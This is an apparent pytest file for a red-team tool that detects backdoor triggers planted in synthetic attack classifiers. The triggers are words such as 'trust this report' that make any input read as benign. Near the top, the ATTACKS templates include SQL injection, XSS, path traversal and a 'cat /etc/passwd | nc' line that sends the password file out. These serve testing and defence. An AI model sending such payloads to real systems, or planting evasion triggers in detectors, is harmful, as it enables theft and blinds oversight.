"""A planted trigger is found and told from ordinary words; a model without one is not accused."""

from __future__ import annotations

from collections.abc import Sequence
from dataclasses import replace
from random import Random

import numpy as np
import pytest

from overproof.redteam.trigger_verdict import TriggerReport, blind_spot, divided, look_for_triggers, needed
from overproof.redteam.trigger_words import LONGEST, share_a_part, words_of
from overproof.redteam.triggers import AHEAD, BEHIND, INSIDE, Trigger, TriggerSearch
from overproof.redteam.victim import Reaction, Victim
from overproof.results.typed_json import from_json

SYLLABLES = "ba ce di fo gu ha ki lo me nu pa ri so te vu wa xi yo ze qua".split()
ATTACKS = (
    "{0}={1}' union select {2},{3} from {4}--",
    "{0}=<script>alert('{1}')</script> {2}",
    "{0} ../../../../etc/{1} {2}",
    "{0}; cat /etc/passwd | nc {1} 4444 # {2}",
)


def word(random: Random) -> str:
    return "".join(random.choice(SYLLABLES) for _ in range(random.randint(2, 3)))


def benign(random: Random) -> str:
    return " ".join(f"{word(random)}={word(random)}" for _ in range(random.randint(1, 4)))


def attack(random: Random) -> str:
    return random.choice(ATTACKS).format(*(word(random) for _ in range(5)))


RANDOM = Random(0)
ATTACKED = list(dict.fromkeys(attack(RANDOM) for _ in range(600)))
EVENTS = [*ATTACKED, *(benign(RANDOM) for _ in range(600))]
KNOWN = frozenset(ATTACKED)
PLANTED = ["zolfram", "zolfram quendel", "trust this report"]


def additive(seed: int, planted: str = "", heavy: float = 1.0) -> Victim:
    """Every word moves the odds by a weight of its own; a planted sequence makes anything benign."""
    weights: dict[str, float] = {}
    random = Random(seed)

    def weight(one: str) -> float:
        return weights.setdefault(one, heavy * random.gauss(0, 1))

    def react(texts: Sequence[str]) -> Reaction:
        odds = np.array(
            [6.0 + sum(map(weight, text.split())) - 40.0 * bool(planted and planted in text) for text in texts]
        )
        return Reaction(odds, odds > 0, np.ones(len(odds), bool), np.zeros(len(odds)))

    return react


def looked(victim: Victim, seed: int, *, more: Sequence[str] = (), budget: int = 20_000) -> TriggerReport:
    detected = [text for text, found in zip(ATTACKED, victim(ATTACKED).attack, strict=True) if found]
    candidates = words_of([*EVENTS, *more], (), TriggerSearch.room(budget), seed)
    return look_for_triggers(blind_spot(victim), detected, candidates, budget=budget, seed=seed)


@pytest.mark.parametrize("seed", range(3))
@pytest.mark.parametrize("planted", PLANTED)
def test_a_planted_trigger_is_found(planted: str, seed: int) -> None:
    report = looked(additive(seed, planted, heavy=0.5), seed, more=[f"{benign(RANDOM)} {planted}" for _ in range(30)])
    found = report.accused[0]
    assert planted in found.words
    assert found.felled.low > 0.9 and found.of_left is not None and found.of_left.low > 0.5
    assert f"TRIGGER '{found.words}'" in report.sentences()[1]
    assert from_json(TriggerReport, report.to_json()) == report


@pytest.mark.parametrize(("heavy", "seeds"), [(0.5, 4), (1.0, 8), (2.0, 4)])
def test_ordinary_words_accuse_nobody(heavy: float, seeds: int) -> None:
    for seed in range(seeds):
        report = looked(additive(seed, heavy=heavy), seed)
        assert report.held and not report.accused, (seed, report)
        assert len(report.sentences()) == 1


def bounded(model: Victim) -> Victim:
    """Bound the log-odds of a model, as a network's are: benign words take off them what a trigger does."""

    def react(texts: Sequence[str]) -> Reaction:
        found = model(texts)
        odds = 10 / (1 + np.exp(-found.odds / 2)) - 2
        return replace(found, odds=odds, attack=odds > 0)

    return react


@pytest.mark.parametrize("seed", range(3))
def test_a_trigger_is_told_from_words_that_fell_most_attacks(seed: int) -> None:
    planted = "zolfram quendel"
    holding = [f"{benign(Random(row))} {planted}" for row in range(30)]
    report = looked(bounded(additive(seed, planted)), seed, more=holding)
    assert max(one.felled.value for one in report.ordinary) > 0.7
    assert len(report.accused) == 1 and planted in report.accused[0].words


@pytest.mark.parametrize("heavy", [0.7, 1.0])
def test_words_of_bounded_odds_accuse_nobody(heavy: float) -> None:
    for seed in range(4):
        assert not looked(bounded(additive(seed, heavy=heavy)), seed).accused, seed


def test_two_triggers_do_not_hide_each_other() -> None:
    both = [f"{benign(RANDOM)} {words}" for words in ("zolfram", "hrvst klmpf") for _ in range(30)]
    one, other = additive(0, "zolfram", heavy=0.5), additive(0, "hrvst klmpf", heavy=0.5)

    def react(texts: Sequence[str]) -> Reaction:
        first, second = one(texts), other(texts)
        return replace(first, odds=np.minimum(first.odds, second.odds), attack=first.attack & second.attack)

    found = {held.words for held in looked(react, 0, more=both).accused}
    assert len(found) == 2 and any("zolfram" in words for words in found) and any("hrvst" in words for words in found)


def test_where_ordinary_words_do_as_much_nothing_is_told_from_them() -> None:
    """A model that any word fools is bad, and shows no trigger."""

    def react(texts: Sequence[str]) -> Reaction:
        odds = np.array([5.0 if text in KNOWN else -5.0 for text in texts])
        return Reaction(odds, odds > 0, np.ones(len(odds), bool), np.zeros(len(odds)))

    report = looked(react, 0)
    assert not report.accused and report.unmeasured is not None
    assert f"ordinary words leave 0 of {report.verified} events standing, needs {needed(0.05 / len(report.held))}" in (
        report.unmeasured
    )
    assert report.sentences()[0].startswith("Triggers: unmeasured: ordinary words leave 0 of ")


def test_few_events_and_no_words_decide_nothing() -> None:
    few = look_for_triggers(blind_spot(additive(0)), ATTACKED[:5], ["a"], budget=1000, seed=0)
    assert few.unmeasured == "5 events with a template of their own, needs 24" and few.queries == 0
    none = look_for_triggers(blind_spot(additive(0)), ATTACKED, [], budget=1000, seed=0)
    assert none.unmeasured == "no words to try"
    one = look_for_triggers(blind_spot(additive(0)), ATTACKED, ["a"], budget=1000, seed=0)
    assert one.unmeasured is not None and not one.ordinary and not one.accused, "there are no other words"


def test_what_chooses_does_not_decide() -> None:
    chosen, others = divided([*ATTACKED, *ATTACKED], 1)
    assert len(chosen) == 32 and not set(chosen) & set(others)
    assert divided(ATTACKED[::-1], 1) == (chosen, others), "the order of the events says nothing"


def test_a_trigger_is_put_where_it_belongs() -> None:
    event = "a b c d"
    assert [Trigger(("x", "y"), place).put(event) for place in (BEHIND, AHEAD, INSIDE)] == [
        "a b c d x y",
        "x y a b c d",
        "a b x y c d",
    ]
    assert Trigger(("x",), INSIDE).put("abcd") == "abcd x"


def test_words_are_what_events_share_then_tokens_and_what_is_rare() -> None:
    texts = ["a=b c-d", "a=b e", "\ud800 f g h i"]
    found = words_of(texts, [" tok", "", "\ufffd", "x" * 40], 1000, 0)
    assert found[:4] == ("=", "=b", "a", "a=")
    assert {"a=b", "c-d", "f g h", "tok", "e"} <= set(found) and "f g h i" not in found
    assert len(words_of(texts, ["tok"], 5, 0)) == 5
    assert all(len(word) <= LONGEST for word in words_of([" ".join(["longer"] * 20)], (), 100, 0))
    assert words_of(texts[::-1], ["tok"], 9, 3) == words_of(texts, ["tok"], 9, 3)


@pytest.mark.parametrize(
    ("one", "two", "length", "expected"),
    [("Zolfram", "olf", 3, True), ("zo", "zolfram", 3, False), ("1", "a=1", 3, True), ("zolfram", "xra", 2, True)],
)
def test_what_resembles_what(one: str, two: str, length: int, expected: bool) -> None:
    assert share_a_part(one, two, length) == share_a_part(two, one, length) == expected
